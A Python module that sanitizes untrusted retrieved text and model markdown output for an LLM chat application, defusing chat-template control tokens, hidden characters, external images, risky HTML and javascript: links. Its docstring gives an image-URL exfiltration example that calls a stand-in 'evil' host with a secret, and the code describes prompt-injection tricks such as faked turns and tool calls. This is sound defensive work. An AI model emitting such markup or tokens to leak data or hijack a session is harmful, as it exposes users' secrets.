"""Untrusted text in, harmless text out: retrieved passages and model output.

Two jobs:

* ``neutralize_passage``: document text that enters a prompt as data. Chat-template control
  tokens (``<|im_start|>``, ``<tool_call>``, ``<|eot_id|>``...) are defused so a document cannot
  open a new turn or fake a tool call, invisible characters that hide instructions are removed,
  and external markdown images are replaced by their alt text (an image URL is the classic
  exfiltration channel: ``![](https://evil/?q=<secret>)``).
* ``sanitize_markdown``: model output about to be rendered (UI, API, Slack, Discord). Nothing in
  it may make a renderer load a URL by itself (markdown images in any form, HTML media, frames,
  stylesheets, CSS ``url()``, ``<base>``, ``<meta refresh>``...), and ``javascript:``-style links
  lose their target; a diagram that could load something is shown as code. Keep the UI's HTML
  sanitizer on as well.

How ``sanitize_markdown`` stays general rather than a list of known tricks:

1. HTML is read the way a browser's tokenizer reads it (tag names and attributes up to the
   real end of the tag, quotes included). Elements that load or run things (script, style,
   svg, iframe, object, video, audio...) go with their content, ``<img>`` becomes
   ``[image: alt]``, and every other tag the renderer would take as HTML is written out again:
   only a small set of formatting tags stays, with attributes from an allowlist (``href`` on
   ``<a>`` with a safe scheme; ``style`` only without ``url(``, escapes or comments; no class or
   id). Comments, doctypes and processing instructions go.
2. Every ``![`` is an image opener in markdown (inline, reference, collapsed or shortcut). It
   stays only when it is an inline image whose target, decoded as the renderer decodes it
   (entities, backslash escapes, tabs and newlines removed, ``\\`` read as ``/``), is a path
   on the app's own origin. Anything else becomes ``[image: alt]`` (or a literal ``![``).
3. A ```mermaid block that names anything URL-like is shown as plain code (the chat draws
   diagrams, and diagrams can load images and CSS).

Code is not trusted to be code: telling code from HTML exactly as the renderer does would take
its parser, and a mistake would be a bypass. So images and risky tags are replaced inside code
blocks too (a code sample showing an outside image shows the placeholder). What code gets is
only this: a tag with nothing risky in it (no URL-loading attribute, handler, risky style or
``class="mermaid"``) is left exactly as written inside code spans and blocks, and wherever
CommonMark would show it as text anyway, so ``a<b && c>d`` and HTML samples read as typed. A
``<`` that starts no complete tag stays, unless something later could end it (then ``&lt;``).
"""

from __future__ import annotations

import html
import re
from typing import Iterable

# Markdown link: [text](url "title")  (url may be <wrapped>)
_URL = r"\(\s*(?:<([^>\n]*)>|([^)\s]*))(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)"
_MD_REF_DEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]{1,100})\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
_MD_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]" + _URL)
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\x00-\x20]*|[\w.!#$%&'*+/=?^`{|}~-]+@[\w.-]+)>")
_BAD_SCHEMES = ("javascript", "vbscript", "data", "file")
# Control tokens of common chat templates, and anything shaped like one: <|name|>.
_CONTROL = re.compile(r"<\|[^|<>\n]{1,40}\|>|</?(?:tool_call|tool_response|tools|function_call|think)>|\[/?INST\]"
                      r"|<</?SYS>>|<(?:s|/s)>", re.IGNORECASE)
_INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u00ad]")
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")  # CommonMark: a backslash before ASCII punctuation
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")

# -- HTML policy -----------------------------------------------------------------------------------
_KEEP_TAGS = frozenset("""a abbr b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn
div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q rp rt ruby s samp small span
strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr""".split())
# Elements that load, run or embed something: removed together with what is inside them.
_DROP_WITH_CONTENT = frozenset("""script style template iframe frame frameset object embed applet noscript noembed
noframes svg math title textarea select xmp head portal audio video canvas""".split())
_PLACEHOLDER = {"img": "image", "image": "image", "svg": "image", "video": "video", "audio": "audio",
                "iframe": "embedded page", "frame": "embedded page", "object": "embedded content",
                "embed": "embedded content", "applet": "embedded content", "portal": "embedded page"}
# No class or id: class="mermaid" would hand the element to the diagram renderer, and an id could
# shadow the app's own elements.
_KEEP_ATTRS = frozenset("""title lang dir align valign width height colspan rowspan scope headers abbr start
reversed type value open datetime span nowrap role""".split())
_SAFE_STYLE = re.compile(r"^[\w\s:;#%.,!+-]*$")  # no url(), image-set(), escapes, comments, quotes
_HTML_SPACE = " \t\n\r\f"
_MAX_TAG = 2000  # longer "tags" are shown as text: keeps the scan linear, and no real tag is that long
# Attributes that make a browser load a URL (or run code) by themselves, on any element.
_URL_ATTRS = frozenset("""src srcset srcdoc poster background data action formaction lowsrc dynsrc codebase
archive classid longdesc manifest icon profile ping content href""".split())
# Tags whose mere presence, incomplete, is worth escaping (they load or embed when completed).
_RISKY_NAMES = _DROP_WITH_CONTENT | {"img", "image", "link", "meta", "base", "source", "track", "input", "param",
                                     "picture", "body"}
# A tag CommonMark itself accepts as raw HTML; anything else the renderer shows as text.
_CM_ATTR = r"[\s]+[A-Za-z_:][A-Za-z0-9_.:-]*(?:[\s]*=[\s]*(?:[^\"'=<>`\x00-\x20]+|'[^']*'|\"[^\"]*\"))?"
_CM_TAG = re.compile(rf"</[A-Za-z][A-Za-z0-9-]*[\s]*>|<[A-Za-z][A-Za-z0-9-]*(?:{_CM_ATTR})*[\s]*/?>")


def _decode_url(url: str, *, markdown: bool) -> str:
    """A URL as the browser will use it: entities (and markdown escapes) decoded, ASCII tab and
    newline removed anywhere (the URL parser drops them), and leading/trailing controls and
    spaces stripped."""
    if markdown:
        url = _MD_ESCAPE.sub(r"\1", url)
    url = html.unescape(url)
    url = re.sub(r"[\t\n\r]", "", url)
    return url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17"
                     "\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")


def is_external_url(url: str, *, markdown: bool = True) -> bool:
    """True for anything that would make a renderer fetch from another origin or run code.

    Only a path on the page's own origin is not external: ``/file=x.png``, ``img/a.png``,
    ``#top``, ``?q=1``. A scheme, ``//host``, and ``/\\host`` or ``\\\\host`` (browsers read a
    backslash as a slash) are external; so is an empty URL.
    """
    url = _decode_url(url, markdown=markdown).replace("\\", "/")
    return not url or url.startswith("//") or bool(_SCHEME.match(url))


def _bad_scheme(url: str, *, markdown: bool = True) -> bool:
    m = _SCHEME.match(_decode_url(url, markdown=markdown))
    return bool(m) and m.group(1).lower() in _BAD_SCHEMES


def _image_text(alt: str, kind: str = "image") -> str:
    """``[image: alt]`` as inert text: no markup can come back out of the alt text."""
    alt = " ".join(w for w in html.unescape(alt).split() if "//" not in w and ":\\" not in w)  # no URLs
    alt = re.sub(r"[\[\]()<>!`\\*_|\"'=&]", "", alt)[:100].strip()
    return f"[{kind}: {alt}]" if alt else f"[{kind}]"


# -- 1. HTML ---------------------------------------------------------------------------------------
def _parse_tag(text: str, start: int):
    """Read the tag at ``text[start] == "<"`` as an HTML tokenizer does.

    Returns (end, closing, name, attributes) with attributes as (name, raw value or None), or
    None when ``<`` does not start a complete tag within ``_MAX_TAG`` characters (the tokenizer
    would wait for more input). The caller shows a ``<`` whose tag runs longer as text.
    """
    n = min(len(text), start + _MAX_TAG)
    if text.find(">", start, n) < 0:  # cheap: most "<" in prose and code end no tag
        return None
    pos = start + 1
    closing = pos < n and text[pos] == "/"
    if closing:
        pos += 1
    if pos >= n or not ("a" <= text[pos].lower() <= "z"):
        return None
    name_start = pos
    while pos < n and text[pos] not in _HTML_SPACE + "/>":
        pos += 1
    name = text[name_start:pos].lower()
    attrs: list[tuple[str, str | None]] = []
    while True:
        while pos < n and (text[pos] in _HTML_SPACE or text[pos] == "/"):
            pos += 1
        if pos >= n:
            return None
        if text[pos] == ">":
            return pos + 1, closing, name, attrs
        attr_start = pos
        pos += 1  # the first character may be "=" (a parse error, but part of the name)
        while pos < n and text[pos] not in _HTML_SPACE + "/>=":
            pos += 1
        attr = text[attr_start:pos].lower()
        while pos < n and text[pos] in _HTML_SPACE:
            pos += 1
        value = None
        if pos < n and text[pos] == "=":
            pos += 1
            while pos < n and text[pos] in _HTML_SPACE:
                pos += 1
            if pos >= n:
                return None
            if text[pos] in "\"'":
                close = text.find(text[pos], pos + 1, n)
                if close < 0:
                    return None
                value, pos = text[pos + 1:close], close + 1
            elif text[pos] == ">":
                value = ""
            else:
                value_start = pos
                while pos < n and text[pos] not in _HTML_SPACE + ">":
                    pos += 1
                value = text[value_start:pos]
        attrs.append((attr, value))


def _kept_attributes(tag: str, attrs: list[tuple[str, str | None]]) -> str:
    out = []
    for name, value in attrs:
        decoded = html.unescape(value or "")
        keep = name in _KEEP_ATTRS or name.startswith("aria-") or \
            (tag == "a" and name in ("href", "name") and not (name == "href" and _bad_scheme(decoded, markdown=False))) or \
            (name == "style" and _SAFE_STYLE.match(decoded) is not None)
        if keep and re.fullmatch(r"[a-z][a-z0-9-]*", name):
            out.append(f' {name}="{html.escape(decoded, quote=True)}"')
    return "".join(out)


def _risky_attributes(tag: str, attrs: list[tuple[str, str | None]]) -> bool:
    """True when an attribute could load a URL or run code: the denylist that decides whether a
    tag the renderer would not take as HTML anyway (code, invalid markup) may stay as written."""
    for name, value in attrs:
        decoded = html.unescape(value or "")
        if name.startswith("on") or name.endswith(":href"):
            return True
        if name in _URL_ATTRS and not (tag == "a" and name == "href" and not _bad_scheme(decoded, markdown=False)):
            return True
        if name == "style" and not _SAFE_STYLE.match(decoded):
            return True
        if name == "class" and "mermaid" in decoded.lower():
            return True
    return False


def _code_ranges(text: str) -> list[tuple[int, int]]:
    """Fenced code blocks and inline code spans, roughly as CommonMark finds them.

    Only harmless markup is left as written inside them (see ``_sanitize_html``), so a region
    this gets wrong costs at most some display, never safety.
    """
    ranges: list[tuple[int, int]] = []
    fence = re.compile(r"^ {0,3}(`{3,}|~{3,})[^\n]*$", re.MULTILINE)
    pos = 0
    while True:
        m = fence.search(text, pos)
        if not m or (m.group(1)[0] == "`" and "`" in text[m.end(1):m.end()]):
            if not m:
                break
            pos = m.end()
            continue
        closer = re.compile(rf"^ {{0,3}}{re.escape(m.group(1)[0])}{{{len(m.group(1))},}}[ \t]*$", re.MULTILINE)
        c = closer.search(text, m.end())
        end = c.end() if c else len(text)
        ranges.append((m.start(), end))
        pos = end
    spans: list[tuple[int, int]] = []
    last = 0
    for start, end in ranges + [(len(text), len(text))]:
        segment_start = last
        i = segment_start
        while True:
            m = re.compile(r"`+").search(text, i, start)
            if not m:
                break
            close = re.compile(rf"(?<!`){m.group(0)}(?!`)").search(text, m.end(), start)
            if not close:
                i = m.end()
                continue
            spans.append((m.start(), close.end()))
            i = close.end()
        last = end
    return sorted(ranges + spans)


def _sanitize_html(text: str) -> str:
    """Rebuild every HTML construct in ``text`` under the policy above; see the module docstring.

    Inside code (and for tags CommonMark would show as text), a tag with nothing risky in it is
    left exactly as written, so ``a<b && c>d`` and HTML samples in code blocks read as typed.
    """
    code = _code_ranges(text)
    starts = [a for a, _ in code]

    def in_code(pos: int) -> bool:
        from bisect import bisect_right

        k = bisect_right(starts, pos) - 1
        return k >= 0 and pos < code[k][1]

    out: list[str] = []
    i = 0
    while True:
        j = text.find("<", i)
        if j < 0:
            out.append(text[i:])
            return "".join(out)
        out.append(text[i:j])
        if text.startswith(("<!", "<?"), j):  # comment, doctype, CDATA, processing instruction
            if in_code(j):
                out.append("<")
                i = j + 1
                continue
            closer = "-->" if text.startswith("<!--", j) else ">"
            end = text.find(closer, j + (4 if closer == "-->" else 2))
            if end < 0:
                out.append("&lt;")
                i = j + 1
            else:
                i = end + len(closer)
            continue
        auto = _AUTOLINK.match(text, j)
        if auto:  # <https://...> and <a@b.c> are links, not tags
            out.append("" if "@" not in auto.group(1) and _bad_scheme(auto.group(1), markdown=False)
                       else auto.group(0))
            i = auto.end()
            continue
        tag = _parse_tag(text, j)
        if tag is None:
            # Not a complete tag here. With no ">" anywhere after it, no reader can make it one
            # (a risky name is still shown as text, in case something appended completes it);
            # one that some reader might end later (an unclosed quote, or longer than _MAX_TAG)
            # is shown as text. Reading goes on right after the "<" either way.
            name = re.match(r"</?([A-Za-z][^\s/>]*)", text[j:j + 40])
            risky = name is not None and (name.group(1).lower() in _RISKY_NAMES or text.find(">", j) >= 0)
            out.append("&lt;" if risky else "<")
            i = j + 1
            continue
        end, closing, name, attrs = tag
        i = end
        if name in _DROP_WITH_CONTENT:
            if not closing:
                close = re.compile(rf"</{re.escape(name)}[{_HTML_SPACE}]*>", re.IGNORECASE).search(text, end)
                if close:
                    i = close.end()
                if name in _PLACEHOLDER:
                    out.append(_image_text("", _PLACEHOLDER[name]))
            continue
        if name in ("img", "image"):
            if not closing:
                alt = next((v for a, v in attrs if a == "alt" and v), "")
                out.append(_image_text(alt))
            continue
        risky = _risky_attributes(name, attrs)
        if not risky and (in_code(j) or not _CM_TAG.fullmatch(text, j, end)):
            out.append(text[j:end])  # inert as written: code, or text to the renderer
            continue
        if name in _KEEP_TAGS:
            out.append(f"</{name}>" if closing else f"<{name}{_kept_attributes(name, attrs)}>")
        # Any other tag (link, meta, base, source, input, form, body, custom elements...) is
        # dropped; the text around and inside it stays.


# -- diagrams ---------------------------------------------------------------------------------------
# The chat renders ```mermaid blocks as diagrams, and a diagram can load images (node shapes with
# img:, HTML labels, CSS in style/classDef/themeCSS). A diagram that names nothing URL-like cannot,
# so it stays a diagram; any other becomes a plain code block.
_MERMAID = re.compile(r"(`{3,}|~{3,})([ \t]*)(mermaid)\b(.*?)(?:\1|\Z)", re.IGNORECASE | re.DOTALL)
_URL_LIKE = re.compile(r"://|//|\\|url\s*\(|@import|img|image|href|src|%%|&#|&[a-z]+;|data:|<", re.IGNORECASE)


def _defuse_diagrams(text: str) -> str:
    def fence(m: re.Match) -> str:
        if not _URL_LIKE.search(m.group(4)):
            return m.group(0)
        return m.group(0)[:m.start(3) - m.start(0)] + "text" + m.group(0)[m.end(3) - m.start(0):]

    return _MERMAID.sub(fence, text)


# -- 2. markdown images ----------------------------------------------------------------------------
def _bracket_pairs(text: str) -> dict[int, int]:
    """Each "[" -> the "]" that closes it (nesting and backslash escapes counted; a blank line
    closes nothing across it), in one pass."""
    pairs: dict[int, int] = {}
    stack: list[int] = []
    i, n = 0, len(text)
    while i < n:
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "[":
            stack.append(i)
        elif c == "]" and stack:
            pairs[stack.pop()] = i
        elif c == "\n" and re.match(r"\n[ \t]*\r?\n", text[i:i + 64]):
            stack.clear()
        i += 1
    return pairs


def _inline_target(text: str, start: int):
    """Parse ``(destination "title")`` at ``text[start] == "("``; returns (end, destination) or None."""
    m = re.compile(r"\([ \t]*\n?[ \t]*").match(text, start)
    pos = m.end()
    n = len(text)
    if pos < n and text[pos] == "<":
        close = pos + 1
        while close < n and text[close] not in "<>\n":
            close += 2 if text[close] == "\\" else 1
        if close >= n or text[close] != ">":
            return None
        dest, pos = text[pos + 1:close], close + 1
    else:
        depth, begin = 0, pos
        while pos < n:
            c = text[pos]
            if c == "\\":
                pos += 2
                continue
            if c <= " " or c == "\x7f":
                break
            if c == "(":
                depth += 1
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            pos += 1
        dest = text[begin:min(pos, n)]
    title = re.compile(r"""[ \t]*\n?[ \t]*(?:"(?:[^"\\]|\\.){0,2000}"|'(?:[^'\\]|\\.){0,2000}'|\((?:[^()\\]|\\.){0,2000}\))?"""
                       r"[ \t]*\n?[ \t]*\)", re.DOTALL).match(text, pos)
    if not title:
        return None
    return title.end(), dest


def _markdown_images(text: str, keep_local: bool = True) -> str:
    """Replace every markdown image except inline ones on the app's own origin (see above)."""
    out: list[str] = []
    pairs = _bracket_pairs(text) if "![" in text else {}
    i = 0
    while True:
        j = text.find("![", i)
        if j < 0:
            out.append(text[i:])
            return "".join(out)
        out.append(text[i:j])
        close = pairs.get(j + 1, -1)
        if close < 0:
            out.append("!\\[")  # no image can start here: make the bracket literal
            i = j + 2
            continue
        alt = text[j + 2:close]
        after = close + 1
        if text.startswith("(", after):
            target = _inline_target(text, after)
            if target is not None:
                end, dest = target
                if keep_local and not is_external_url(dest):
                    out.append("![")  # kept; what is inside is checked like everything else
                    i = j + 2
                    continue
                out.append(_image_text(_markdown_images(alt, keep_local=False)))
                i = end
                continue
        ref = re.compile(r"\[([^\[\]]{0,999})\]").match(text, after)  # full or collapsed reference
        out.append(_image_text(_markdown_images(alt, keep_local=False)))
        i = ref.end() if ref else after


def strip_external_images(text: str) -> str:
    """Replace markdown and HTML images that load from outside by ``[image: alt]`` text.

    Inline markdown images with a path on the app's own origin stay; every other markdown image
    (reference-style ones included) and every ``<img>`` tag becomes text.
    """
    out: list[str] = []
    i = 0
    for m in re.finditer(r"<(?:img|image)\b", text, re.IGNORECASE):
        if m.start() < i:
            continue
        tag = _parse_tag(text, m.start())
        if tag is None:
            continue
        alt = next((v for a, v in tag[3] if a == "alt" and v), "")
        out += [text[i:m.start()], _image_text(alt)]
        i = tag[0]
    return _markdown_images("".join(out) + text[i:])


def sanitize_markdown(text: str) -> str:
    """Make model output safe to render: nothing that loads a URL by itself, no script links.

    - Markdown images in every form and ``<img>``/``<svg>``/``<video>``... become ``[image: alt]``
      (``[video]``...); inline images with a path on the app's own origin stay.
    - HTML is rebuilt: formatting tags stay with harmless attributes only; frames, objects,
      scripts, styles, ``<link>``, ``<meta>``, ``<base>`` and every URL-loading attribute go.
    - ``[text](javascript:...)`` (also vbscript:, data:, file:) becomes ``text``; ordinary links stay.
    """
    if not text:
        return text
    # Images first (an <https://...> image target is not a tag), then HTML, then images again:
    # removing a tag can join a "!" and a "[" that were apart.
    text = _markdown_images(_sanitize_html(_markdown_images(_defuse_diagrams(text))))

    def link(m: re.Match) -> str:
        url = m.group(2) if m.group(2) is not None else m.group(3)
        return m.group(1) if _bad_scheme(url) else m.group(0)

    text = _MD_LINK.sub(link, text)
    # A reference definition pointing at a script URL would still turn [x][ref] into a live link.
    return _MD_REF_DEF.sub(lambda m: "" if _bad_scheme(m.group(2)) else m.group(0), text)


def defuse_control_tokens(text: str, extra_tokens: Iterable[str] = ()) -> str:
    """Break chat-template control tokens so the tokenizer reads them as plain characters.

    ``<|im_start|>`` becomes ``‹|im_start|›``: still readable, no longer a special token.
    ``extra_tokens`` are the tokenizer's own special tokens (any shape).
    """
    for token in sorted({t for t in extra_tokens if t and len(t) > 1}, key=len, reverse=True):
        if token in text:
            text = text.replace(token, token[0] + "\u2060" + token[1:]) if not token.startswith("<") else \
                text.replace(token, "‹" + token[1:-1] + "›" if token.endswith(">") else "‹" + token[1:])
    return _CONTROL.sub(lambda m: "‹" + m.group(0)[1:-1] + "›" if m.group(0).startswith("<") else
                        "(" + m.group(0)[1:-1] + ")", text)


_PASSAGE_DANGEROUS = re.compile(
    r"<(script|style|iframe|object|embed)\b[^>]*>.*?</\1\s*>|<(?:script|style|iframe|object|embed|link|meta|base)\b[^>]*/?>",
    re.IGNORECASE | re.DOTALL)


def neutralize_passage(text: str, extra_tokens: Iterable[str] = ()) -> str:
    """Prepare untrusted document text for a prompt: no control tokens, hidden text or image URLs."""
    text = _INVISIBLE.sub("", text)
    text = _PASSAGE_DANGEROUS.sub("", text)
    text = re.sub(r"<!--(.*?)-->", r"\1", text, flags=re.DOTALL)  # hidden comments are shown as text
    text = strip_external_images(text)
    return defuse_control_tokens(text, extra_tokens)
